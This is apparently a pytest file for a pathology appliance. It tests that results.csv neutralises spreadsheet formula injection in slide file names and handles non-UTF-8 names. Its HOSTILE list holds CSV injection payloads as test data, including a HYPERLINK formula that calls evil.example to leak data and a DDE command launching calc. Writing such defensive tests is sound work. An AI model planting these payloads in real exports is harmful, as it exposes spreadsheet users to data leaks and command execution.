"""`pathology run`'s results.csv, which clinicians open in a spreadsheet, holds no cell a
spreadsheet runs as a formula, whatever a slide file is named; `pathology evaluate` reads each
slide's name back as it was (appliance/csvcells.py)."""

from __future__ import annotations

import csv
import os
from pathlib import Path

from appliance.cli import main
from appliance.csvcells import FORMULA_STARTS
from appliance.pathology.labels import LabelRow
from appliance.pathology.report import load_run
from appliance.pathology.run import SlideResult, write_results

# slide files as a scanner share may hold them: a link fetched when the sheet is opened, a
# sum, a DDE command, and a name that starts with the apostrophe spreadsheets take as a mark
HOSTILE = ['=HYPERLINK("http:⁄⁄evil.example⁄?leak","open")', "-2+3+cmd|' ⁄C calc'!A0",
           "@SUM(1+1)", "+1", "'quoted"]


def test_no_cell_of_results_csv_starts_a_formula(tmp_path: Path) -> None:
    folder = tmp_path / "slides"
    folder.mkdir()
    for name in HOSTILE:
        (folder / f"{name}.jpg").write_bytes(b"\xff\xd8")  # no slide: an error row each
    out = tmp_path / "out"
    assert main(["pathology", "run", str(folder), "--out", str(out), "--um-per-px", "1"]) == 1
    with (out / "results.csv").open(newline="") as handle:
        rows = list(csv.reader(handle))[1:]
    assert sorted(row[0] for row in rows) == sorted(f"'{name}" for name in HOSTILE)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]  # on main: 4


def test_evaluate_reads_the_names_back_as_they_were(tmp_path: Path) -> None:
    names = ["=s1", "'s2", "s3"]
    results = [SlideResult(name, f"P{i}", "biopsy", f"/slides/{name}.jpg", 10, 0.5, 0.5,
                           0.9 - 0.4 * i, "MSI" if i == 0 else "MSS", 1.0)
               for i, name in enumerate(names)]
    write_results(tmp_path, results, {"threshold": 0.5})
    labels = {name: LabelRow(name, f"P{i}", "MSI" if i == 0 else "MSS", "biopsy", 1.0)
              for i, name in enumerate(names)}
    run = load_run(tmp_path, labels, None)
    assert list(run.patients) == ["P0", "P1", "P2"]  # each slide found under its own name
    assert list(run.truth) == [True, False, False]


def test_a_slide_file_name_that_is_no_utf8_gets_its_row(tmp_path: Path) -> None:
    folder = tmp_path / "slides"
    folder.mkdir()
    (folder / os.fsdecode(b"scan\xff.jpg")).write_bytes(b"\xff\xd8")  # no slide: an error row
    (folder / "s2.jpg").write_bytes(b"\xff\xd8")
    out = tmp_path / "out"
    # on main: UnicodeEncodeError out of results.csv after every slide was read, no table
    assert main(["pathology", "run", str(folder), "--out", str(out), "--um-per-px", "1"]) == 1
    with (out / "results.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["slide"] for row in rows] == ["s2", "scan\\xff"]
    assert rows[1]["path"].endswith("scan\\xff.jpg")
    assert rows[1]["error"]
